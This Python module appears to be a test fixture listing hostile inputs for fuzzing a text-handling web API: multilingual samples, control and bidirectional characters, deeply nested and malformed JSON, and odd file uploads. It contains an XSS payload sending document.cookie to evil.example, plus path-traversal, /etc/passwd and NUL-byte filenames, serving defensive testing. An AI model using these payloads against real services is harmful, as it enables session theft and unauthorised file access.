"""A corpus of hostile inputs: each one a name and the text or raw bytes to send.

Texts go into JSON string fields; ``RAW_BODIES`` are sent as the request body itself; ``FILES`` are uploaded
as a multipart ``file`` part with the content type given. Sizes are relative to the settings under test where
they matter (``MIB_20`` is fixed: the issue asks for 20 MB).
"""

from __future__ import annotations

GERMAN = (
    "Der Präsident hat am Dienstag mit dem Außenminister telefoniert. Im Laufe des Gesprächs tauschten die "
    "Seiten Meinungen über die aktuelle Lage in der Region aus. Beide Seiten betonten die Bedeutung des Dialogs."
)
DUTCH = (
    "Het staatshoofd heeft dinsdag met de minister van Buitenlandse Zaken gesproken. Tijdens het gesprek "
    "wisselden beide partijen van gedachten over de huidige situatie in de regio."
)
FRENCH = (
    "Le président de la République a reçu mardi le ministre des Affaires étrangères pour évoquer la situation "
    "dans la région et les perspectives de paix. Les deux parties ont souligné l'importance du dialogue."
)
AZERBAIJANI = (
    "Prezident İlham Əliyev çərşənbə axşamı ABŞ dövlət katibi ilə telefonla danışıb. Söhbət zamanı tərəflər "
    "regionda yaranmış vəziyyət barədə fikir mübadiləsi aparıblar və dialoqun vacibliyini vurğulayıblar."
)
MIB_20 = 20 * 1024 * 1024

_WORDS = GERMAN.replace(".", "").split()
LONG_SENTENCE = " ".join(_WORDS[i % len(_WORDS)] for i in range(5000))  # 5,000 tokens, no sentence end
CONTROL = "Der Präsident\x00 hat\x01\x07 am \x1b[31mDienstag\x1b[0m telefoniert.\x0b\x0c Die Lage\x7f ist ruhig."
ZERO_WIDTH = "Der\u200b Präsi\u200cdent\u200d hat\ufeff am Dienstag\u2060 telefoniert. Die Lage ist ruhig."
RTL_OVERRIDE = "Der Präsident \u202etlefoniert\u202c hat am \u2066Dienstag\u2069 telefoniert. Die \u200fLage ist ruhig."
SURROGATE_ESCAPE = '{"text": "Der Pr\\ud800sident hat telefoniert. Die Lage \\udfff ist ruhig."}'
HTML_SCRIPT = (
    "<!doctype html><html><head><title>t</title><script>alert('head')</script></head><body>"
    "<script>document.location='http://evil.example/'+document.cookie</script>"
    f"<p onclick=\"alert('x')\">{GERMAN}</p><img src=x onerror=alert(1)><style>p{{color:red}}</style>"
    "</body></html>"
)
BINARY = bytes(range(256)) * 64
GERMAN_JSON = '{"text": "' + GERMAN + '"}'

# name -> text placed in the JSON string field
TEXTS: dict[str, str] = {
    "empty": "",
    "whitespace": " \n\t\u3000\u00a0 ",
    "20MB": "a" * MIB_20,
    "german": GERMAN,
    "french": FRENCH,
    "azerbaijani": AZERBAIJANI,
    "5000-token-sentence": LONG_SENTENCE,
    "control-chars": CONTROL,
    "zero-width": ZERO_WIDTH,
    "rtl-override": RTL_OVERRIDE,
    "html-script": HTML_SCRIPT,
    "binary-as-latin1": BINARY[:4096].decode("latin-1"),
    "only-nul": "\x00" * 100,
    "emoji-and-combining": "Der Präsident 👩‍👩‍👧 hat am Dienstag telefoniert. Z̸̢̛a̷͎l̶g̵o̸ ist ruhig.",
}

NEST = 100_000
# name -> (content type, body)
RAW_BODIES: dict[str, tuple[str, bytes]] = {
    "invalid-utf8": ("application/json", b'{"text": "Der Pr\xe4sident \xff\xfe hat telefoniert."}'),
    "utf16-json": ("application/json", GERMAN_JSON.encode("utf-16")),
    "latin1-json": ("application/json", GERMAN_JSON.encode("latin-1")),
    "lone-surrogates": ("application/json", SURROGATE_ESCAPE.encode()),
    "nested-array": ("application/json", b'{"text": ' + b"[" * NEST + b"]" * NEST + b"}"),
    "nested-object": ("application/json", b'{"text": ' + b'{"a":' * NEST + b"1" + b"}" * NEST + b"}"),
    "nested-top": ("application/json", b"[" * NEST + b"]" * NEST),
    "not-json": ("application/json", b"{text: 'single quotes'"),
    "truncated-json": ("application/json", b'{"text": "Der Pr\xc3'),
    "json-null": ("application/json", b"null"),
    "json-array": ("application/json", b'["Der Pr\xc3\xa4sident hat telefoniert."]'),
    "json-string": ("application/json", b'"Der Pr\xc3\xa4sident hat telefoniert."'),
    "json-number": ("application/json", b"1e999999"),
    "text-number": ("application/json", b'{"text": 42}'),
    "text-null": ("application/json", b'{"text": null}'),
    "text-object": ("application/json", b'{"text": {"a": 1}}'),
    "text-mixed-list": ("application/json", b'{"text": ["Der Pr\xc3\xa4sident hat telefoniert.", 1, null]}'),
    "text-bool": ("application/json", b'{"text": true}'),
    "duplicate-keys": ("application/json", b'{"text": "a", "text": "Die Lage ist ruhig. Der Pr\xc3\xa4sident."}'),
    "unknown-field": ("application/json", b'{"text": "Die Lage ist ruhig.", "admin": true}'),
    "huge-number-field": ("application/json", b'{"text": "Die Lage ist ruhig.", "source_lang": 1' + b"0" * 5000 + b"}"),
    "binary-body": ("application/json", BINARY),
    "empty-body": ("application/json", b""),
    "no-content-type": ("", GERMAN_JSON.encode()),
    "text-plain": ("text/plain", GERMAN.encode()),
    "xml": ("application/xml", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;</x>"),
    "form-urlencoded": ("application/x-www-form-urlencoded", b"text=Die+Lage+ist+ruhig."),
    "multipart-no-boundary": ("multipart/form-data", b"--x\r\n\r\n"),
    "multipart-garbage": ("multipart/form-data; boundary=zz", BINARY[:2000]),
}

# name -> (filename, content type, bytes)
FILES: dict[str, tuple[str, str, bytes]] = {
    "empty-file": ("empty.txt", "text/plain", b""),
    "utf8-file": ("release.txt", "text/plain", GERMAN.encode()),
    "utf16-file": ("release.txt", "text/plain", GERMAN.encode("utf-16")),
    "utf16be-nobom": ("release.txt", "text/plain", GERMAN.encode("utf-16-be")),
    "latin1-file": ("release.txt", "text/plain", GERMAN.encode("latin-1")),
    "cp1252-dutch": ("release.txt", "text/plain", DUTCH.encode("cp1252")),
    "invalid-utf8-file": ("release.txt", "text/plain; charset=utf-8", b"Der Pr\xe4sident \xff hat telefoniert. " * 8),
    "html-file": ("release.html", "text/html", HTML_SCRIPT.encode()),
    "html-as-plain": ("release.txt", "text/plain", HTML_SCRIPT.encode()),
    "binary-file": ("blob.bin", "application/octet-stream", BINARY),
    "png-file": ("x.png", "image/png", b"\x89PNG\r\n\x1a\n" + BINARY),
    "pdf-as-text": ("x.txt", "text/plain", b"%PDF-1.7\n" + BINARY),
    "french-file": ("fr.txt", "text/plain", FRENCH.encode()),
    "azerbaijani-file": ("az.txt", "text/plain", AZERBAIJANI.encode()),
    "traversal-name": ("../../../../tmp/transnorm-hostile-upload.txt", "text/plain", DUTCH.encode()),
    "absolute-name": ("/etc/passwd", "text/plain", GERMAN.replace("Präsident", "Kanzler").encode()),
    "nul-name": ("evil\x00.txt", "text/plain", GERMAN.replace("Dienstag", "Montag").encode()),
    "bad-charset": ("release.txt", "text/plain; charset=x-no-such-charset", GERMAN.encode()),
    "control-file": ("release.txt", "text/plain", CONTROL.encode()),
    "20MB-file": ("big.txt", "text/plain", b"a" * MIB_20),
}
